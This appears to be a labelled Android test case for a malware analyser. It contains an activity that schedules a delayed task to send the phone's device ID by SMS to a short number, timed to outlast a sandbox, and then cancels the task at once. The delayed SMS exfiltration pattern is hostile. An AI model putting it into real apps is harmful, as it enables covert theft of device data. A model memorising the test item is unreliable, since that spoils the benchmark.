// about       What would send waits longer than a sandbox looks, and is taken back at once.
// clean       -
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.os.Handler;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity implements Runnable {
  private final Handler handler = new Handler();

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    handler.postDelayed(this, 180000);
    // Nothing ran in between: this is the same thread.
    handler.removeCallbacks(this);
  }

  @Override
  public void run() {
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    // Minutes later.
    SmsManager.getDefault().sendTextMessage("10690000", null, phone.getDeviceId(), null, null);
  }
}
